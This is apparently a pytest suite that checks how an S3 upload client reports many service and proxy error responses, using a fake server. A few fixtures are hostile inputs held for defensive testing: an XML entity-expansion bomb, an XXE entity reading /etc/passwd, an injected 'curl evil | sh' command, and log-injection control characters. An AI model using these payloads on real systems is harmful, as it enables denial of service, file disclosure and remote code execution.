"""What S3 services, and whatever stands in front of them, answer to an upload."""

import re
import socket
from dataclasses import dataclass, field
from typing import Any

import pytest

from tests.support.attempts import Pod
from tests.support.field_reports import DONE, Outcome, failed, retried
from tests.support.http_faults import BODY, Behaviour, Exchange, FaultServer, endless, respond
from tests.support.http_faults import response_head as head

XML = "Content-Type: application/xml"
DECLARATION = '<?xml version="1.0" encoding="UTF-8"?>'
TOKEN = "a-session-token-which-nobody-else-may-read/+="
LONG_TOKEN = "Fwo0GxIvYXdzEPr/" * 100
KEY_ID = "AKIAIOSFODNN7EXAMPLE"
LATEST = "latest"
OF_ONE_RUN = "{scheduled}"
LARGE = b"x" * 20_000_000
NO_OBJECT = 404, b""
"""Answer to the look at a key that has no object."""
UPLOAD = (
    f"{DECLARATION}<InitiateMultipartUploadResult><UploadId>u</UploadId>"
    "</InitiateMultipartUploadResult>"
).encode()

Answer = tuple[int, bytes]


def document(code: str, message: str = "Words of the service.", more: str = "") -> bytes:
    """Return an error document as Amazon and MinIO send it."""
    return (
        f"{DECLARATION}\n<Error><Code>{code}</Code><Message>{message}</Message>{more}"
        "<RequestId>4442587FB7D0A2F9</RequestId></Error>"
    ).encode()


def answer(status: int, body: bytes, *headers: str) -> Behaviour:
    """Read the request's body, then respond; a server that does not may lose its response."""

    def behave(exchange: Exchange) -> None:
        request, _, received = exchange.request.partition("\r\n\r\n")
        length = re.search(r"content-length: (\d+)", request.lower())
        missing = int(length[1]) - len(received) if length else 0
        while missing > 0 and (piece := exchange.connection.recv(min(missing, 65536))):
            missing -= len(piece)
        shown = b"" if request.startswith("HEAD") else body
        respond(status, shown, XML, 'ETag: "e"', *headers)(exchange)

    return behave


def in_parts(last: Answer, part: Answer = (200, b"")) -> Behaviour:
    """Accept an upload in parts until a part, or the end, gets an answer of its own."""

    def behave(exchange: Exchange) -> None:
        line = exchange.request.split("\r\n", 1)[0]
        if "uploads" in line:
            answer(200, UPLOAD)(exchange)
        elif line.startswith("POST"):
            answer(*last)(exchange)
        elif line.startswith("DELETE"):
            answer(204, b"")(exchange)
        else:
            answer(*part)(exchange)

    return behave


@dataclass(frozen=True)
class Case:
    """A row: what a service answers, and what comes of the attempt.

    Args:
        source: the public report, or the manual of the service.
        situation: in our words. It names the test.
        server: answers to requests for the key, in their order; the last one stays.
        outcome: of the attempt.
        absent: what its message does not say.
        key: of the object.
        body: of the file.
        region: of the bucket.
    """

    source: str
    situation: str
    server: tuple[Answer | Behaviour, ...]
    outcome: Outcome
    absent: tuple[str, ...] = ()
    key: str = LATEST
    body: bytes = BODY
    region: str = "us-east-1"
    variables: dict[str, str] = field(default_factory=dict)

    def __str__(self) -> str:
        return self.situation


BOMB = (
    '<?xml version="1.0"?><!DOCTYPE Error [<!ENTITY a "ha"><!ENTITY b "&a;&a;&a;&a;">'
    "<!ENTITY c '&b;&b;&b;&b;'>]><Error><Code>Boom</Code><Message>&c;&c;</Message></Error>"
)
OUTSIDE = (
    '<!DOCTYPE Error [<!ENTITY f SYSTEM "file:///etc/passwd">]>'
    "<Error><Code>Leak</Code><Message>&f;</Message></Error>"
)
NGINX = (
    b"<html>\r\n<head><title>413 Request Entity Too Large</title></head>\r\n<body>\r\n"
    b"<center><h1>413 Request Entity Too Large</h1></center>\r\n<hr></body>\r\n</html>\r\n"
)
MANUAL = "Amazon S3 API Reference, Error responses"
SKEWED = document(
    "RequestTimeTooSkewed",
    "The difference between the request time and the current time is too large.",
    "<RequestTime>20150604T232559Z</RequestTime><ServerTime>2015-06-04T22:26:16Z</ServerTime>",
)
CASES = [
    Case(
        "s3fs-fuse/s3fs-fuse#1186",
        "a wrong region",
        (
            (
                400,
                document(
                    "AuthorizationHeaderMalformed",
                    "The region 'us-east-1' is wrong; expecting 'eu-nl-1'",
                    "<Region>eu-nl-1</Region>",
                ),
            ),
        ),
        failed(
            "BucketNotFound",
            "write region: eu-nl-1",
            "(AuthorizationHeaderMalformed: The region 'us-east-1' is wrong; expecting 'eu-nl-1').",
        ),
    ),
    Case(
        "Altinity/clickhouse-backup#1110",
        "a malformed header whose region is right",
        ((400, document("AuthorizationHeaderMalformed", more="<Region>minio</Region>")),),
        failed("BucketDenied", "or the credentials", "AuthorizationHeaderMalformed: Words"),
        absent=("write region",),
        region="minio",
    ),
    Case(
        "deliciousbrains/wp-amazon-s3-and-cloudfront#460",
        "credentials of a malformed shape",
        ((400, document("AuthorizationHeaderMalformed", "the Credential is mal-formed")),),
        failed(
            "BucketDenied", "correct region, or the Secret keys", "the Credential is mal-formed"
        ),
    ),
    Case(
        "aws/aws-sdk-php#612",
        "a clock that is off",
        ((403, SKEWED),),
        retried(
            "UploadFailed",
            "The clock of the node",
            "(2015-06-04T22:26:16Z)",
            "RequestTimeTooSkewed: The difference between",
        ),
        absent=("correct the Secret", "policy"),
    ),
    Case(
        "markevans/dragonfly#132",
        "a clock that is off, and a service that does not tell its own",
        ((403, document("RequestTimeTooSkewed")),),
        retried("UploadFailed", "that of the S3 service: set it"),
    ),
    Case(
        MANUAL,
        "a missing bucket",
        ((404, document("NoSuchBucket", "The specified bucket does not exist")),),
        failed(
            "BucketNotFound",
            "no bucket downloads: create it",
            "(NoSuchBucket: The specified bucket does not exist).",
        ),
    ),
    Case(
        MANUAL,
        "a user without the right to write",
        ((403, document("AccessDenied", "User: arn:aws:iam::1:user/x is not authorized")),),
        failed("BucketDenied", "the right to write: grant it", "AccessDenied: User: arn:aws:iam"),
        absent=("correct the Secret",),
    ),
    Case(
        MANUAL,
        "an unknown access key",
        ((403, document("InvalidAccessKeyId")),),
        failed("BucketDenied", "correct the Secret keys", "InvalidAccessKeyId"),
        absent=("policy",),
    ),
    Case(
        MANUAL,
        "a wrong secret key",
        ((403, document("SignatureDoesNotMatch", more="<StringToSign>AWS4 x</StringToSign>")),),
        failed("BucketDenied", "correct the Secret keys", "SignatureDoesNotMatch"),
        absent=("AWS4",),
    ),
    Case(
        MANUAL,
        "a refusal without a document",
        ((403, b""),),
        failed("BucketDenied", "correct the Secret keys or the bucket's policy", "403 Forbidden"),
    ),
    Case(
        "romange/helio#15",
        "a session token that has expired",
        (
            (
                400,
                document(
                    "ExpiredToken", "The provided token has expired.", f"<Token-0>{TOKEN}</Token-0>"
                ),
            ),
        ),
        retried("UploadFailed", "has expired: renew it", "ExpiredToken: The provided token has"),
        absent=(TOKEN,),
        variables={"AWS_SESSION_TOKEN": TOKEN},
    ),
    Case(
        MANUAL,
        "a session token that the service does not know",
        ((400, document("InvalidToken")),),
        failed("BucketDenied", "correct it there, or remove it", "InvalidToken"),
    ),
    Case(
        "boto/botocore#1400",
        "an expired token at the first look, whose response has no body",
        ((400, document("ExpiredToken")),),
        retried("UploadFailed", "has expired", "ExpiredToken: Words of the service)."),
        key=OF_ONE_RUN,
    ),
    Case(
        "RFC 9110, 9.3.2",
        "a look that fails although a GET does not",
        ((400, b""), (200, b"x"), (400, b"")),
        retried("UploadFailed", "check that http://127.0.0.1:", "(400 Bad Request)"),
        key=OF_ONE_RUN,
    ),
    Case(
        "aws/aws-cli#1065",
        "a clock that is off and an empty response to the first look",
        (NO_OBJECT, (403, SKEWED)),
        retried("UploadFailed", "The clock of the node"),
        key=OF_ONE_RUN,
    ),
    Case(
        "aristidb/aws#160",
        "a bucket in another region, by a 301 without a Location",
        ((301, document("PermanentRedirect", more="<Endpoint>b.s3.amazonaws.com</Endpoint>")),),
        failed("BucketNotFound", "is not in the region us-east-1", "correct region, or endpoint"),
    ),
    Case(
        MANUAL,
        "a bucket that has just been created elsewhere",
        (answer(307, document("TemporaryRedirect"), "Location: http://127.0.0.1:9/"),),
        retried("UploadFailed", "another attempt may succeed"),
    ),
    Case(
        MANUAL,
        "a service that is busy, once",
        ((503, document("SlowDown")), (200, b"")),
        DONE,
    ),
    Case(
        MANUAL,
        "a service that stays busy",
        ((503, document("SlowDown", "Please reduce your request rate.")),),
        retried(
            "UploadFailed",
            "busy or has a fault: another attempt may succeed",
            "(SlowDown: Please reduce your request rate).",
        ),
    ),
    Case(
        MANUAL,
        "a service that did not get the body in time",
        ((400, document("RequestTimeout")),),
        retried("UploadFailed", "another attempt may succeed", "RequestTimeout"),
    ),
    Case(
        "mickael-kerjean/filestash#423",
        "a reverse proxy with a limit",
        ((413, NGINX),),
        failed("TooLarge", "have its limit raised", "(413 Payload Too Large)."),
        absent=("<html", "verify.maxBytes"),
    ),
    Case(
        "asafdav/ng-s3upload#31",
        "an object that is too large for the bucket",
        ((400, document("EntityTooLarge", "Your proposed upload exceeds the maximum")),),
        failed("TooLarge", "have its limit raised", "EntityTooLarge: Your proposed upload"),
    ),
    Case(
        "versity/versitygw#503",
        "a quota that is used up, with 403",
        ((403, document("QuotaExceeded", "Your request was denied due to quota exceeded.")),),
        retried("NoSpace", "delete objects, or have the quota raised", "QuotaExceeded: Your"),
        absent=("correct the Secret",),
    ),
    Case(
        "minio/minio#9379",
        "a quota that is used up, with 400",
        ((400, document("XMinioAdminBucketQuotaExceeded")),),
        retried("NoSpace", "delete objects"),
    ),
    Case(
        "RFC 4918, 11.5",
        "a service that is full",
        ((507, document("XMinioStorageFull")),),
        retried("NoSpace", "is full", "XMinioStorageFull"),
    ),
    Case(
        MANUAL,
        "a key that is too long",
        ((400, document("KeyTooLongError", "Your key is too long")),),
        failed("InvalidPath", "correct key", "KeyTooLongError"),
    ),
    Case(
        MANUAL,
        "a name that no bucket may have",
        ((400, document("InvalidBucketName")),),
        failed("BucketNotFound", "correct bucket", "InvalidBucketName"),
    ),
    Case(
        MANUAL,
        "a conflict with another request is not somebody's object",
        (NO_OBJECT, (409, document("ConditionalRequestConflict"))),
        retried("UploadFailed", "another attempt may succeed", "ConditionalRequestConflict"),
        key=OF_ONE_RUN,
    ),
    Case(
        MANUAL,
        "an object that somebody put there meanwhile",
        (NO_OBJECT, (412, document("PreconditionFailed")), NO_OBJECT),
        failed("ObjectExists", "choose another key"),
        key=OF_ONE_RUN,
    ),
    Case(
        MANUAL,
        "a conflict without a condition is not somebody's object",
        ((409, document("OperationAborted")),),
        retried("UploadFailed", "another attempt may succeed", "OperationAborted"),
    ),
    Case(
        MANUAL,
        "a service without conditions",
        (NO_OBJECT, (501, document("NotImplemented", more="<Header>If-None-Match</Header>"))),
        retried("UploadFailed", "write a key without {scheduled}", "NotImplemented"),
        key=OF_ONE_RUN,
    ),
    Case(
        MANUAL,
        "something else that is not implemented",
        ((501, document("NotImplemented", "A header you provided")),),
        retried("UploadFailed", "could not be stored (NotImplemented: A header you provided)."),
        absent=("{scheduled}",),
    ),
    Case(
        "aws/aws-cli#987",
        "an upload in parts that a rule aborted",
        (in_parts((404, document("NoSuchUpload"))),),
        retried("UploadFailed", "was aborted at the S3 service", "NoSuchUpload"),
        absent=("create it",),
        body=LARGE,
    ),
    Case(
        "kitware-resonant/django-s3-file-field#209",
        "a completion that fails after its 200",
        (in_parts((200, document("InternalError", "We encountered an internal error."))),),
        retried("UploadFailed", "has a fault", "InternalError: We encountered"),
        body=LARGE,
    ),
    Case(
        "RFC 9110, 15.5.6",
        "something that is not an S3 service",
        ((405, b"<!DOCTYPE html><html><p>Method Not Allowed</p></html>"),),
        retried("UploadFailed", "is the address of an S3 service", "(405 Method Not Allowed)."),
        absent=("<p>",),
    ),
    Case(
        "RFC 9110, 15.5.5",
        "a web server without the path",
        ((404, b"<html><h1>Not Found</h1></html>"),),
        failed("BucketNotFound", "correct bucket, endpoint or region (404 Not Found)."),
    ),
    Case(
        "RFC 8259",
        "an error in JSON",
        ((400, b'{"statusCode": "400", "error": "InvalidRequest", "message": "tenant is gone"}'),),
        retried("UploadFailed", "(InvalidRequest: tenant is gone)."),
    ),
    Case(
        "RFC 8259",
        "an error within JSON",
        ((403, b'{"error": {"code": "AccessDenied", "message": "no"}}'),),
        failed("BucketDenied", "grant it", "(AccessDenied: no)."),
    ),
    Case(
        "RFC 8259",
        "JSON that is deeper than any parser goes",
        ((400, b'{"a":' * 20_000),),
        retried("UploadFailed", "(400 Bad Request)."),
    ),
    Case(
        "RFC 9110, 15.5.1",
        "plain text",
        ((400, b"go away\x1b[2J\nand stay there"),),
        retried("UploadFailed", "(400 Bad Request: go away [2J)."),
        absent=("and stay there", "\x1b"),
    ),
    Case(
        "RFC 9110, 15.5.1",
        "no body at all",
        ((400, b""),),
        retried("UploadFailed", "(400 Bad Request)."),
    ),
    Case(
        "RFC 3629, 3",
        "a body that is not UTF-8",
        ((400, b"\xff\xfe" + document("AccessDenied")),),
        retried("UploadFailed", "invalid utf-8"),
    ),
    Case(
        "Namespaces in XML 1.0",
        "a document with a namespace and a prefix",
        (
            (
                400,
                b"<s:Error xmlns:s='http://s3.amazonaws.com/doc/2006-03-01/'><s:Code>InvalidToken"
                b"</s:Code><s:Message>with prefix</s:Message></s:Error>",
            ),
        ),
        failed("BucketDenied", "InvalidToken: with prefix"),
    ),
    Case(
        "XML 1.0, 2.1",
        "a document that is cut off",
        ((403, document("RequestTimeTooSkewed", "cut")[:110]),),
        retried("UploadFailed", "The clock of the node", "RequestTimeTooSkewed"),
    ),
    Case(
        "CVE-2003-1564",
        "entities that grow",
        ((400, BOMB.encode()),),
        retried("UploadFailed", "(400 Bad Request)."),
        absent=("haha", "Boom"),
    ),
    Case(
        "CWE-611",
        "an entity that is a file",
        ((400, OUTSIDE.encode()),),
        retried("UploadFailed", "(400 Bad Request)."),
        absent=("root:", "Leak"),
    ),
    Case(
        "CWE-117",
        "control characters and a long text",
        ((403, document("AccessDenied", "a&#10;b\u202e" + "x" * 100_000)),),
        failed("BucketDenied", "AccessDenied: a b xxx", "x…)."),
        absent=("\u202e", "x" * 301),
    ),
    Case(
        "CWE-117",
        "a code that is not one",
        ((400, document("Access Denied; curl evil | sh")),),
        retried("UploadFailed", "(400 Bad Request: Words of the service)."),
        absent=("evil",),
    ),
    Case(
        "CWE-209",
        "credentials that come back",
        ((403, document("AccessDenied", f"{KEY_ID} with {LONG_TOKEN} is not allowed")),),
        failed("BucketDenied", "AccessDenied: *** with *** is not allowed"),
        absent=(KEY_ID, LONG_TOKEN[:20]),
        variables={"AWS_SESSION_TOKEN": LONG_TOKEN},
    ),
    Case(
        "CWE-400",
        "a document without an end",
        (endless(head(400, XML) + b"<Error><Code>AccessDenied</Code><Message>"),),
        failed("BucketDenied", "AccessDenied: xxx", "x…)."),
    ),
    Case(
        "CWE-400",
        "bytes without an end",
        (endless(head(400) + b"\xff\xfe"),),
        retried("UploadFailed", "No S3 service responds", "more than 1048576 bytes"),
    ),
]


@pytest.mark.parametrize("case", CASES, ids=str)
def test_case(case: Case, pod: Pod, server: FaultServer) -> None:
    key = "20261123T020000Z" if case.key == OF_ONE_RUN else case.key
    behaviours = [
        answer(*behaviour) if isinstance(behaviour, tuple) else behaviour
        for behaviour in case.server
    ]
    server.on(f"/downloads/{key}", *behaviours)

    attempt = upload(case, pod, server.on("/x", respond(200, case.body)), server.origin)

    message = attempt.result.message or ""
    assert attempt.outcome == (case.outcome.code, case.outcome.reason), attempt.out
    for part in case.outcome.advice:
        assert part in message, message
    for part in case.absent:
        assert part not in message + attempt.out + attempt.err
    assert len(message) < 1000
    assert pod.peak_memory() < 300 * 1024**2


def upload(case: Case, pod: Pod, url: str, endpoint: str) -> Any:
    destination = {
        "bucket": "downloads",
        "key": case.key,
        "endpoint": endpoint,
        "region": case.region,
        "credentialsSecretRef": {"name": "keys"},
    }
    variables = {"AWS_ACCESS_KEY_ID": KEY_ID, "AWS_SECRET_ACCESS_KEY": "s", **case.variables}
    return pod.run(url, s3=destination, **variables)


def test_service_that_does_not_accept_connections_is_named(pod: Pod, server: FaultServer) -> None:
    with socket.create_server(("127.0.0.1", 0)) as unused:
        endpoint = f"http://127.0.0.1:{unused.getsockname()[1]}"
    case = Case("", "", (), DONE)

    attempt = upload(case, pod, server.on("/x", respond(200)), endpoint)

    assert attempt.outcome == (20, "UploadFailed"), attempt.out
    assert f"No S3 service responds at {endpoint} (no connection to 127.0.0.1)" in str(
        attempt.result.message
    )


@pytest.mark.parametrize(("run", "code"), [("5b1c9b1e", 0), ("another", 20)])
def test_completion_that_is_repeated_finds_its_own_object(
    pod: Pod, server: FaultServer, run: str, code: int
) -> None:
    """The service completed the upload, and its response was lost (scylladb/scylladb#19533)."""
    is_complete = False

    def behave(exchange: Exchange) -> None:
        nonlocal is_complete
        if exchange.request.startswith("HEAD"):
            date = "Last-Modified: Mon, 23 Nov 2026 02:00:00 GMT"
            answer(200 if is_complete else 404, b"", f"x-amz-meta-run: {run}", date)(exchange)
            return
        is_complete = is_complete or "?uploadId" in exchange.request.split("\r\n")[0]
        in_parts((404, document("NoSuchUpload")))(exchange)

    server.on("/downloads/20261123T020000Z", behave)
    case = Case("", "", (), DONE, key=OF_ONE_RUN)

    attempt = upload(case, pod, server.on("/x", respond(200, LARGE)), server.origin)

    assert attempt.code == code, attempt.out
